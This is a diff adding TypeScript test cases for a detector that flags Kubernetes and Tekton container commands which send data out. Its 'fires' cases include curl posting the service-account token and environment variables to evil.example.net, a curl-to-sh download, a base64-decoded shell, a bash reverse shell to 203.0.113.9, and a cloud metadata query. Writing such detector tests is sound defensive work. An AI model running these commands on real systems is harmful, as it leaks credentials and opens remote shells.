@@ -1,0 +1,62 @@
+import { type Case, object, pair, web } from './build.ts';
+
+const id = 'command-sends-out';
+const run = (line: string) => web({ container: { command: ['sh', '-c'], args: [line] } });
+const step = (script: string) =>
+  object('tekton.dev/v1/Task', 'a', { spec: { steps: [{ name: 's', image: 'registry.example.com/a/b:1', script }] } });
+const usual = run('exec server --port 8080');
+const hook = (line: string) =>
+  web({ container: { command: ['server'], lifecycle: { postStart: { exec: { command: ['sh', '-c', line] } } } } });
+
+export const COMMAND_CASES: Case[] = [
+  [
+    id,
+    'fires',
+    'the token',
+    'high',
+    pair(usual, run('curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://evil.example.net')),
+  ],
+  [id, 'fires', 'all variables', 'high', pair(usual, run('env | curl -d @- evil.example.net; exec server'))],
+  [
+    id,
+    'fires',
+    'one variable',
+    'medium',
+    pair(usual, run('wget -qO- "https://evil.example.net/?p=$DB_PASSWORD"; exec server')),
+  ],
+  [id, 'fires', 'what is fetched and run', 'medium', pair(usual, run('curl -fsSL https://get.evil.example.net | sh'))],
+  [id, 'fires', 'what is decoded and run', 'medium', pair(usual, run('echo aGk= | base64 -d | sh'))],
+  [id, 'fires', 'a connection of the shell', 'high', pair(usual, run('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'))],
+  [id, 'fires', 'the metadata service', 'high', pair(usual, run('curl http://169.254.169.254/latest/meta-data/'))],
+  [id, 'fires', 'an address that is a variable', 'medium', pair(usual, run('curl "https://$HOST/$TOKEN"'))],
+  [id, 'fires', 'a hook', 'medium', pair(web(), hook('curl "https://evil.example.net/$TOKEN"'))],
+  [
+    id,
+    'fires',
+    'the script of a Task',
+    'medium',
+    pair(step('make'), step('curl -d "$PASSWORD" https://evil.example.net')),
+  ],
+  [
+    id,
+    'silent',
+    'waiting for a Service',
+    '',
+    pair(usual, run('until nc -z db.shop.svc.cluster.local 5432; do sleep $WAIT; done')),
+  ],
+  [
+    id,
+    'silent',
+    'names of files',
+    '',
+    pair(usual, run('node server.js --config /etc/app/config.yaml --port $PORT; curl localhost')),
+  ],
+  [id, 'silent', 'a call without anything of ours', '', pair(usual, run('curl -fsS https://status.example.com'))],
+  [
+    id,
+    'exempt',
+    'it did so before',
+    '',
+    pair(run('curl "https://api.example.com/$KEY"'), run('curl -s "https://api.example.com/$KEY"')),
+  ],
+];
